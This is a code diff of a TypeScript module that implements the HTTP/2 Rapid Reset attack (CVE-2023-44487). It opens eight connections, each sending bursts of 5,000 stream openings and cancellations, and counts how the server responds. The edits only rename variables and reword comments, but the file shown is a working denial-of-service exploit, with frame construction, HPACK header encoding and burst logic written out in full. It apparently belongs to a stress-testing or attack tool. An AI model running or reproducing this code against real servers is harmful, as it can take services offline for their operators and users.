@@ -5,9 +5,9 @@ import { type Counts, count } from "./repeat.ts";
 
 const connections = 8;
 const resets = 5_000;
-const patienceMs = 15_000;
+const timeoutMs = 15_000;
 
-/** Eight HTTP/2 connections, each of which opens and cancels 5,000 streams in one burst (CVE-2023-44487), over and over. */
+/** Opens eight HTTP/2 connections that each open and cancel 5,000 streams in one burst (CVE-2023-44487). Repeats this. */
 export async function rapidReset({ port, address, seconds }: AttackJob): Promise<Counts> {
   const counts: Counts = {};
   const burst = resetBurst(port);
@@ -21,17 +21,17 @@ export async function rapidReset({ port, address, seconds }: AttackJob): Promise
   return counts;
 }
 
-// Resolves when the server has closed the connection, or has answered the PING behind the last reset.
+// Resolves when the server has closed the connection or has acknowledged the PING after the last reset.
 function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Promise<void> {
   return new Promise((resolve) => {
     const socket = connect(target);
     let outcome = "closed by the server";
     let received = Buffer.alloc(0);
-    socket.setTimeout(patienceMs, () => end("timeout"));
+    socket.setTimeout(timeoutMs, () => end("timeout"));
     socket.on("error", () => {});
     socket.on("data", (part: Buffer) => {
       received = Buffer.concat([received.subarray(-pong.length), part]);
-      if (received.includes(pong)) end("every reset taken");
+      if (received.includes(pong)) end("every reset accepted");
     });
     socket.once("close", () => {
       count(counts, outcome);
@@ -39,8 +39,8 @@ function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Pr
     });
     socket.write(burst);
 
-    function end(how: string): void {
-      outcome = how;
+    function end(result: string): void {
+      outcome = result;
       socket.destroy();
     }
   });
@@ -49,7 +49,7 @@ function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Pr
 const frameType = { headers: 1, reset: 3, settings: 4, ping: 6 };
 const pong = frame(frameType.ping, 1, 0, Buffer.from("lastping"));
 
-/** The preface, all streams and their resets, and a PING: written once, sent as it is. RFC 9113. */
+/** Returns the bytes of one burst (RFC 9113): the preface, all streams with their resets, and a PING. */
 function resetBurst(port: number): Buffer {
   const headers = headerBlock(port);
   const cancel = Buffer.from([0, 0, 0, 8]);
@@ -59,7 +59,7 @@ function resetBurst(port: number): Buffer {
   ];
   for (let n = 0; n < resets; n++) {
     const stream = 2 * n + 1;
-    // END_HEADERS: the body would follow.
+    // The flag 4 is END_HEADERS. Without END_STREAM, a body would follow.
     frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.reset, 0, stream, cancel));
   }
   frames.push(frame(frameType.ping, 0, 0, Buffer.from("lastping")));
@@ -75,7 +75,7 @@ function frame(type: number, flags: number, stream: number, payload: Buffer): Bu
   return Buffer.concat([head, payload]);
 }
 
-// HPACK (RFC 7541): names by their index in the static table, values as literals that are never indexed.
+// Returns headers in HPACK (RFC 7541). Names are indexes of the static table, values are literals.
 function headerBlock(port: number): Buffer {
   const value = (text: string) => [text.length, ...Buffer.from(text)];
   const [postMethod, httpScheme, authority, path, contentType] = [
